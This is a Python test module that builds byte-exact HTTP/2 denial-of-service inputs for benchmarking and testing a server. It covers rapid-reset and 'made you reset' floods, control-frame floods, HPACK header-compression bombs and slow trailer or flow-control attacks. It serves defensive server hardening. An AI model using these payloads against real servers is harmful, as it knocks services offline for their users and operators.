"""h2_attacks.py - what HTTP/2 clients say that mean harm, byte for byte: for tests, and for the bench.

Each of FLOODS is a function that makes its n-th piece, and how many pieces there are: it ends with GOAWAY long
before the last.  Each of HELD is what a client sends that then waits, and its settings.
"""

import h2
from h2 import GET, POST, data, headers

STREAMS = range(1, 201, 2)  # as many as lbd allows at once
BOMB = h2.block(GET) + h2.literal("x", "y" * 4000, 0x40)  # at 62 from now on

FLOODS = {
    "rapid_reset": (lambda i: headers(2 * i + 1, GET) + h2.reset(2 * i + 1), 1000),
    # CVE-2025-8671: the client breaks the rules so that we reset
    "made_you_reset": (lambda i: headers(2 * i + 1, POST, False) + h2.window(2 * i + 1, 0x7fffffff), 1000),
    "made_you_reset_by_nothing": (lambda i: headers(2 * i + 1, POST, False) +
                                  headers(2 * i + 1, [("x", "1")], False), 1000),
    "malformed": (lambda i: headers(2 * i + 1, [*GET, ("connection", "close")]), 1000),
    "refused": (lambda i: headers(2 * i + 1, b"\x82\x86\x84\x41\1a", False), 5000),
    "ping": (lambda i: h2.ping(), 5000),
    "settings": (lambda i: h2.settings(), 5000),
    "priority": (lambda i: h2.frame(h2.PRIORITY, 0, 1, bytes(5)), 5000),
    "unknown_frame": (lambda i: h2.frame(0xbe, 0, 0), 5000),
    "window_update": (lambda i: h2.window(0, 1), 5000),
    "empty_data": (lambda i: data(1, b"", False) if i else headers(1, POST, False), 100),
    # a few bytes each stand for 4,000; CVE-2026-49975: thousands of small ones by reference
    "hpack_bomb": (lambda i: headers(1, BOMB + b"\xbe" * 12000), 1),
    "field_bomb": (lambda i: headers(1, h2.block(GET) + h2.literal("x", "", 0x40) + b"\xbe" * 16000), 1),
}


def get(path):
    return [*GET[:2], (":path", path), GET[3]]


def trailers(n):
    """Of 28 KB; they are not under flow control."""
    fields = h2.literal("x", "y" * 4000, 0x40) + b"\xbe" * 6 if n == 1 else b"\xbe" * 7
    return headers(n, [*POST, ("content-length", "1")], False) + data(n, b"a", False) + headers(n, fields)


HELD = {
    # a hundred requests of 28 KB each, in 1,900 bytes
    "large_heads": headers(1, BOMB + b"\xbe" * 6) + b"".join(headers(n, h2.block(GET) + b"\xbe" * 7)
                                                              for n in STREAMS[1:]),
    "large_trailers": b"".join(map(trailers, STREAMS)),
    "shut_windows": b"".join(headers(n, get("/1m")) for n in STREAMS),
}
SHUT = [(h2.INITIAL_WINDOW_SIZE, 0)]
